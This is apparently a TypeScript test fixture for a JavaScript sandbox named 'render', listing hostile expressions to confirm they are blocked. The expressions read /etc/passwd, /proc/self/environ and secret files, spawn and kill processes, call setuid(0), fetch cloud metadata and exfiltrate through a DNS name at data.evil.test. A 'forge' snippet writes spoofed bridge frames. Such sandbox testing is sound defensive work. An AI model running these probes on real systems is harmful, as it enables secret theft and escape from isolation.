/**
 * What a hostile remote tries, as expressions of JavaScript that run inside render. They know `require`, what they aim at
 * as `at`, and `until(emitter, ...events)`, which resolves at the first of the events and rejects at an error.
 */
export type Attacks = Readonly<Record<string, string>>;

/** Defines what the expressions know beside `require` and `at`. */
export const prelude = `const until = (emitter, ...events) => new Promise((resolve, reject) => {
  emitter.on("error", reject);
  for (const event of events) emitter.on(event, () => resolve(event));
});`;

/** To read what is not its own. */
export const reading: Attacks = {
  "fs.readFileSync": `require("fs").readFileSync(at.secretFile, "utf8")`,
  "fs/promises": `require("fs/promises").readFile(at.secretFile, "utf8")`,
  "a read stream": `until(require("fs").createReadStream(at.secretFile), "data")`,
  "fs.openAsBlob": `require("fs").openAsBlob(at.secretFile).then((blob) => blob.text())`,
  "fs.copyFileSync": `require("fs").copyFileSync(at.secretFile, at.directory + "/copy")`,
  "fs.readdirSync": `require("fs").readdirSync(at.directory)`,
  "a symbolic link": `require("fs").symlinkSync(at.secretFile, at.directory + "/link")`,
  "fs.watch": `require("fs").watch(at.directory).close()`,
  require: `require(at.secretFile)`,
  import: `import(at.secretFile)`,
  "process.loadEnvFile": `process.loadEnvFile(at.secretFile)`,
  "front's own code": `require("fs").readFileSync(at.frontSource, "utf8")`,
  "/etc/passwd": `require("fs").readFileSync("/etc/passwd", "utf8")`,
  "os.userInfo": `require("os").userInfo()`,
  "/proc/self/environ": `require("fs").readFileSync("/proc/self/environ", "utf8")`,
  "/proc of front": `require("fs").readFileSync("/proc/" + at.front + "/environ", "utf8")`,
  "/proc/self/mem": `require("fs").openSync("/proc/self/mem", "r")`,
  "/proc/self/fd": `require("fs").readdirSync("/proc/self/fd")`,
  "SQLite, reading": `new (require("node:sqlite").DatabaseSync)(at.secretFile)`,
};

/** To write anywhere. */
export const writing: Attacks = {
  "fs.writeFileSync": `require("fs").writeFileSync(at.directory + "/written", "x")`,
  "fs.mkdirSync": `require("fs").mkdirSync(at.directory + "/made")`,
  "SQLite, writing": `new (require("node:sqlite").DatabaseSync)(":memory:").exec(
    "attach '" + at.directory + "/attached' as x; create table x.t(a)")`,
  "a flag of V8 that writes": `require("v8").setFlagsFromString("--trace-turbo-path=" + at.directory)`,
  "a heap snapshot": `require("v8").writeHeapSnapshot(at.directory + "/snapshot")`,
  "a heap snapshot near the limit": `require("v8").setHeapSnapshotNearHeapLimit(1)`,
  "a report": `process.report.writeReport(at.directory + "/report.json")`,
  "trace events": `require("trace_events").createTracing({ categories: ["v8"] }).enable()`,
};

/** To start, end or change processes. */
export const processes: Attacks = {
  spawn: `require("child_process").spawnSync("id").stdout`,
  fork: `require("child_process").fork("x").pid`,
  "cluster.fork": `require("cluster").fork().id`,
  "a worker": `new (require("worker_threads").Worker)("1", { eval: true })`,
  execve: `process.execve("/bin/true", ["true"])`,
  "a native addon": `process.dlopen({ exports: {} }, at.secretFile)`,
  "process.binding": `process.binding("fs")`,
  "process._linkedBinding": `process._linkedBinding("fs")`,
  "the inspector": `require("inspector").open(0)`,
  "an inspector session": `new (require("inspector").Session)().connect()`,
  "foreign functions": `require("node:ffi").dlopen("libc.so.6")`,
  WASI: `new (require("wasi").WASI)({ version: "preview1", preopens: { "/": "/" } })`,
  "process.kill": `process.kill(at.victim, "SIGKILL")`,
  "process.kill of front": `process.kill(at.front, "SIGKILL")`,
  "process._kill": `process._kill(at.victim, 9)`,
  "process._debugProcess": `process._debugProcess(at.front)`,
  "os.setPriority": `require("os").setPriority(at.victim, 19)`,
  "process.setuid": `process.setuid(0)`,
  "process.exit": `process.exit(0)`,
  "process.abort": `process.abort()`,
  "process.reallyExit": `process.reallyExit(0)`,
  "process.chdir": `process.chdir(at.directory)`,
  "less permission for the next page": `process.permission.drop("fs.read")`,
  "module hooks in a thread": `require("module").register("data:text/javascript,export{}")`,
};

/** To speak with anybody but front. */
export const network: Attacks = {
  "TCP, as Redis, Postgres and identity listen": `until(require("net").connect(at.port, "127.0.0.1"), "connect")`,
  "a unix socket": `until(require("net").connect(at.socketPath), "connect")`,
  http: `until(require("http").get("http://127.0.0.1:" + at.port), "response")`,
  "http over the unix socket": `until(require("http").get({ socketPath: at.socketPath }), "response")`,
  http2: `until(require("http2").connect("http://127.0.0.1:" + at.port), "connect")`,
  tls: `until(require("tls").connect(at.port, "127.0.0.1"), "secureConnect")`,
  fetch: `fetch("http://127.0.0.1:" + at.port)`,
  "fetch of a cloud's metadata": `fetch("http://169.254.169.254/latest/meta-data/")`,
  WebSocket: `new Promise((resolve, reject) => {
    const socket = new WebSocket("ws://127.0.0.1:" + at.port);
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("refused"));
  })`,
  "a datagram": `new Promise((resolve, reject) => {
    const socket = require("dgram").createSocket("udp4").on("error", reject);
    socket.send("x", at.port, "127.0.0.1", (error) => (error ? reject(error) : resolve("sent")));
  })`,
  "a name that carries data": `require("dns/promises").resolve4("data.evil.test")`,
  "dns.lookup": `require("dns/promises").lookup("localhost")`,
  "a server": `until(require("net").createServer().listen(0), "listening")`,
};

/** Runs inside render: frames as render makes them, on the descriptor of the bridge. */
export const forge = `
  const { writeSync } = require("fs");
  const frame = (message) => {
    const json = Buffer.from(typeof message === "string" ? message : JSON.stringify(message));
    const header = Buffer.alloc(8);
    header.writeUInt32BE(json.length, 0);
    header.writeUInt32BE(json.length, 4);
    return Buffer.concat([header, json]);
  };
  const send = (message) => writeSync(3, frame(message));`;
